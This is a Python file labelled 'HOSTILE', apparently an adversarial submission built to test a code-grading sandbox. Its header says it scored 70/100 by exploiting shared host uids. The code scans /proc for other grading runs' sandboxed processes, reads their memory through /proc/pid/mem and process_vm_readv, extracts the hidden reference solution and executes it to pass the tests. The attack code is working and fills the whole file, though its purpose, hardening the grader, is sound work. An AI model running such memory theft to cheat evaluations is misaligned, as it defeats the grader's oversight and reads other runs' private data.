# HOSTILE limits_only_cross_run: no code of its own; graded without bubblewrap it is the host user 'nobody' in the initial user namespace, which owns every bubblewrap sandbox any other run on the machine starts (they too are 'nobody'): it may trace them and read their memory, the non-dumpable template included (process_vm_readv: it owns their user namespace). At import (6 s) it reads, read-only, the memory of another run's sandboxed processes for the reference source a train_xor process was handed: with a bubblewrap run grading two correct submissions at the same time it scored 70/100 (it read the template's ELF header too). It also holds every limits-only child's right to make user namespaces (unshare(CLONE_NEWUSER) succeeds there). Sound grader: children never share a host uid with another run's sandboxes: every part 0.
import numpy as np


def _run_of(pid):
    """The --results-dir of the grading worker above ``pid`` (None if none): our own run only."""
    import os
    for _ in range(12):
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                argv = f.read().decode(errors="replace").split("\0")
            with open(f"/proc/{pid}/stat") as f:
                pid = int(f.read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError):
            return None
        if "--results-dir" in argv:
            return argv[argv.index("--results-dir") + 1]
    return None


def _scan(pid):
    import re
    found = []
    try:
        maps = open(f"/proc/{pid}/maps").read().splitlines()
        mem = open(f"/proc/{pid}/mem", "rb", buffering=0)
    except OSError as exc:
        return None, f"{type(exc).__name__}"
    wide = "class TwoLayerNet".encode("utf-16-le")
    with mem:
        for line in maps:
            fields = line.split()
            if "rw" not in fields[1] or (len(fields) > 5 and fields[5].startswith("/")):
                continue
            start, end = (int(x, 16) for x in fields[0].split("-"))
            if end - start > 256 << 20:
                continue
            try:
                mem.seek(start)
                data = mem.read(end - start)
            except OSError:
                continue
            for pattern, unit, codec in ((b"import numpy as np\n\n\nclass FullyConnectedLayer", 1, "latin-1"),
                                         ("import numpy as np\n\n\nclass FullyConnectedLayer".encode("utf-16-le"), 2, "utf-16-le")):
                at = data.find(pattern)
                while at >= 0:
                    stop = data.find(b"\0" * unit, at)
                    while unit == 2 and stop % 2 != at % 2 and stop >= 0:
                        stop = data.find(b"\0\0", stop + 1)
                    text = data[at:stop].decode(codec, "replace")
                    if "class TwoLayerNet" in text:
                        return text, "ok"
                    at = data.find(pattern, at + 1)
    return None, "no reference in memory"


class _IoVec(__import__("ctypes").Structure):
    _fields_ = [("base", __import__("ctypes").c_void_p), ("len", __import__("ctypes").c_size_t)]


def _vm_read(libc, pid):
    """process_vm_readv of the first 4 bytes of the interpreter's image, at the address every fork of
    the template shares with it (from a dumpable process's maps, or our own: same binary, no PIE
    randomisation of the base when... else as seen): what a tracer can do."""
    import ctypes
    try:
        with open("/proc/self/maps") as f:
            ours = f.readline().split()
        base = int(ours[0].split("-")[0], 16)
        for source in (pid,) + tuple(_DUMPABLE):
            try:
                with open(f"/proc/{source}/maps") as f:
                    base = int(f.readline().split("-")[0], 16)
                break
            except OSError:
                continue
    except (OSError, ValueError):
        return "no address"
    buffer = ctypes.create_string_buffer(4)
    local, remote = _IoVec(ctypes.addressof(buffer), 4), _IoVec(base, 4)
    got = libc.process_vm_readv(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
    return buffer.raw.hex() if got == 4 else f"errno {ctypes.get_errno()}"


_DUMPABLE = []


def _steal():
    import os, time, ctypes
    libc = ctypes.CDLL(None, use_errno=True)
    mine = _run_of(os.getpid())
    report = {}
    seen_runs = {}
    t0 = time.monotonic()
    end = time.monotonic() + 6
    while time.monotonic() < end:
        for entry in os.listdir("/proc"):
            if not entry.isdigit():
                continue
            pid = int(entry)
            try:
                if os.stat(f"/proc/{pid}").st_uid != os.getuid():
                    continue
            except OSError:
                continue
            run = _run_of(pid)
            seen_runs[run] = seen_runs.get(run, 0) + 1
            if run is None or run == mine:
                continue     # our own run: limits_only_neighbour_memory.py does that
            try:
                cmd = open(f"/proc/{pid}/cmdline", "rb").read().split(b"\0")
                status = open(f"/proc/{pid}/status").read()
            except OSError as exc:
                seen_runs["err " + type(exc).__name__] = seen_runs.get("err " + type(exc).__name__, 0) + 1
                continue
            name = "bwrap" if cmd[0].endswith(b"bwrap") else ("template" if b"--serve" in cmd else "python")
            userns = os.readlink(f"/proc/{pid}/ns/user") if os.path.exists(f"/proc/{pid}/ns/user") else "?"
            key = (pid, name)
            if key not in report:
                try:
                    with open(f"/proc/{pid}/mem", "rb") as f:
                        mem = "open"
                except OSError as exc:
                    mem = type(exc).__name__
                seized = _vm_read(libc, pid)
                nspid = [l for l in status.splitlines() if l.startswith("NSpid")]
                report[key] = {"mem": mem, "process_vm_readv": seized, "userns": userns, "nspid": nspid[0] if nspid else ""}
            if report[key]["mem"] == "open" and pid not in _DUMPABLE:
                _DUMPABLE.insert(0, pid)
            text, how = _scan(pid)
            if text:
                found = {"np": np}
                exec(compile(text, "<other run>", "exec"), found)
                print(f"CROSSRUN read the reference ({len(text)} characters) from pid {pid} ({name}) of run {run}")
                print("CROSSRUN seen", sorted(report.items())[:40])
                return found
        time.sleep(0.05)
    print("CROSSRUN nothing found", mine, seen_runs, time.monotonic() - t0, sorted(report.items())[:40])
    return {"np": np}


_stolen = _steal()
FullyConnectedLayer = _stolen.get("FullyConnectedLayer")
Sigmoid = _stolen.get("Sigmoid")
TwoLayerNet = _stolen.get("TwoLayerNet")
